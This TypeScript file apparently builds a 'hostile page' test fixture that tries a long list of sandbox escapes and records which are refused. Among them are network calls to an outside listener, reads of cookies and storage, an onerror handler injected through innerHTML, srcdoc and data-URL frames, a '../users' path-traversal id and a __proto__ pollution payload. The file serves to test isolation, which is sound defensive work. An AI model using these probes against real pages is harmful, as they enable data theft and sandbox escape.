/**
 * A page that tries everything that a given page may not do, and writes down what came of it, by name: `refused` and the
 * like, or what it got.
 *
 * @param foreign an origin at which somebody listens
 */
export function hostilePage(foreign: string): string {
  return `<!doctype html>
<title>Hostile</title>
<pre id="outcomes"></pre>
<div id="sink"></div>
<script data-small>if (parent !== top) parent.postMessage(typeof RTCPeerConnection, '*');</script>
<script type="module">
  const foreign = ${JSON.stringify(foreign)};
  const outcomes = {};
  const settled = (promise, milliseconds = 3000) =>
    Promise.race([promise, new Promise((resolve) => setTimeout(resolve, milliseconds, 'nothing'))]);
  async function attempt(name, act) {
    try {
      outcomes[name] = String(await settled(Promise.resolve(act())));
    } catch (error) {
      outcomes[name] = 'refused: ' + (error.code ?? error.name);
    }
  }
  const loaded = (element, attributes) =>
    new Promise((resolve) => {
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve('refused');
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
    });

  await attempt('document of the parent', () => parent.document.title);
  await attempt('location of the top', () => top.location.href);
  await attempt('storage', () => localStorage.length);
  await attempt('cookies', () => document.cookie);
  await attempt('databases', () => indexedDB.open('x') && 'opened');
  await attempt('fetch of the product', async () => (await fetch('/api/-/product')).status);
  await attempt('fetch elsewhere', async () => (await fetch(foreign + '/fetch', { mode: 'no-cors' })).type);
  await attempt('XMLHttpRequest', () => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve('answered');
    request.onerror = () => resolve('refused');
    request.open('GET', foreign + '/xhr');
    request.send();
  }));
  await attempt('WebSocket', () => new Promise((resolve) => {
    const socket = new WebSocket(foreign.replace('http', 'ws') + '/socket');
    socket.onopen = () => resolve('open');
    socket.onerror = () => resolve('refused');
  }));
  await attempt('EventSource', () => new Promise((resolve) => {
    const source = new EventSource(foreign + '/events');
    source.onopen = () => resolve('open');
    source.onerror = () => resolve('refused');
  }));
  await attempt('beacon', () => (navigator.sendBeacon(foreign + '/beacon', 'x'), 'sent into nothing'));
  await attempt('picture', () => loaded(new Image(), { src: foreign + '/picture.png' }));
  await attempt('style', () => loaded(document.createElement('link'), { rel: 'stylesheet', href: foreign + '/style.css' }));
  await attempt('prefetch', () => loaded(document.createElement('link'), { rel: 'prefetch', href: foreign + '/prefetch' }));
  await attempt('script', () => loaded(document.createElement('script'), { src: foreign + '/script.js' }));
  await attempt('own script', () => {
    const script = document.createElement('script');
    script.textContent = 'window.brought = true';
    document.body.append(script);
    return window.brought ? 'ran' : 'refused';
  });
  await attempt('handler in a text', () => {
    document.querySelector('#sink').innerHTML = '<img src="data:," onerror="window.handled = true">';
    return new Promise((resolve) => setTimeout(() => resolve(window.handled ? 'ran' : 'refused'), 200));
  });
  await attempt('eval', () => eval('1'));
  await attempt('import', () => import(foreign + '/module.js'));
  await attempt('worker', () => new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    worker.onmessage = () => resolve('ran');
    worker.onerror = () => resolve('refused');
  }));
  await attempt('frame', () => {
    const frame = document.createElement('iframe');
    frame.src = foreign + '/frame';
    document.body.append(frame);
    return 'asked';
  });
  await attempt('form', () => {
    const form = document.createElement('form');
    form.action = foreign + '/form';
    form.method = 'post';
    document.body.append(form);
    form.submit();
    return 'asked';
  });
  await attempt('popup', () => window.open(foreign + '/popup') === null ? 'refused' : 'opened');
  await attempt('top', () => { top.location.href = foreign + '/top'; return 'asked'; });
  await attempt('download', () => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['x']));
    link.download = 'x.exe';
    link.click();
    return 'asked';
  });
  await attempt('alert', () => { alert('x'); return 'asked'; });
  await attempt('notification', async () => Notification.requestPermission());
  await attempt('camera', async () => navigator.mediaDevices?.getUserMedia({ video: true }) ?? 'absent');
  await attempt('WebRTC', async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + foreign.replace('http://', '') }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    return new Promise((resolve) => {
      connection.onicecandidate = ({ candidate }) => candidate && resolve('candidate');
      setTimeout(() => resolve('nothing'), 1000);
    });
  });
  await attempt('WebRTC of another frame', () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return new frame.contentWindow.RTCPeerConnection() && 'made';
  });
  // A frame in which a script of the page runs before anything else.
  const again = '<script>' + document.querySelector('script[data-small]').textContent + '</scr' + 'ipt>';
  const answered = () => new Promise((resolve) => addEventListener('message', ({ data }) => resolve(data), { once: true }));
  const nested = {
    property: (frame) => { frame.srcdoc = again; },
    attribute: (frame) => frame.setAttribute('srcdoc', again),
    'attribute with a namespace': (frame) => frame.setAttributeNS(null, 'srcdoc', again),
    'node of an attribute': (frame) => {
      const attribute = document.createAttribute('srcdoc');
      attribute.value = again;
      frame.setAttributeNode(attribute);
    },
    'node of an attribute, filled later': (frame) => {
      frame.setAttributeNode(document.createAttribute('srcdoc'));
      frame.getAttributeNode('srcdoc').value = again;
    },
    markup: (frame) => { frame.outerHTML = '<iframe srcdoc="' + again.replaceAll('"', '&quot;') + '"></iframe>'; },
    'parsed elsewhere': (frame) =>
      frame.replaceWith(new DOMParser().parseFromString('<iframe srcdoc="' + again + '">', 'text/html').body.firstChild),
    written: () => { document.write('<iframe src'); document.write('doc="' + again + '"></iframe>'); },
    'data address': (frame) => { frame.src = 'data:text/html,' + again; },
    'blob address': (frame) => { frame.src = URL.createObjectURL(new Blob([again], { type: 'text/html' })); },
  };
  for (const [name, make] of Object.entries(nested))
    await attempt('WebRTC by ' + name, () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const answer = answered();
      make(frame);
      return settled(answer, 500);
    });
  const [list, fire, update, create] = [nonet.list, nonet.fire, nonet.update, nonet.create];
  await attempt('undeclared records', () => list('User'));
  await attempt('undeclared event', () => fire('Seat', 'x', 'release'));
  await attempt('undeclared create', () => create('Seat', { number: 'Z' }));
  await attempt('undeclared field', async () => {
    const { items: [seat] } = await list('Seat', { limit: 1 });
    return update('Seat', seat.id, { note: 'x', price: 1 });
  });
  await attempt('undeclared filter', () => list('Seat', { filters: { 'price.gt': '1' } }));
  await attempt('undeclared order', () => list('Seat', { order: '-price' }));
  await attempt('fields of an answer', async () => Object.keys((await list('Seat', { limit: 1 })).items[0]).join());
  await attempt('another screen', () => list('Seat', { screen: 'all_seats', fields: 'price', limit: 1 }).then(({ items }) => Object.keys(items[0]).join()));
  await attempt('path in an id', () => nonet.read('Seat', '../users'));
  await attempt('prototype', async () => {
    const values = JSON.parse('{"__proto__": {"polluted": true}, "note": "x"}');
    const { items: [seat] } = await list('Seat', { limit: 1 });
    return update('Seat', seat.id, values).then(() => 'done');
  });
  await attempt('name of a prototype', () => list('constructor'));
  await attempt('second channel', () => {
    const { port1, port2 } = new MessageChannel();
    parent.postMessage('nonet given page', '*', [port2]);
    return new Promise((resolve) => { port1.onmessage = () => resolve('answered'); port1.postMessage({ ask: 1, request: { method: 'list', entity: 'User' } }); });
  });
  document.querySelector('#outcomes').textContent = JSON.stringify(outcomes);
</script>`;
}
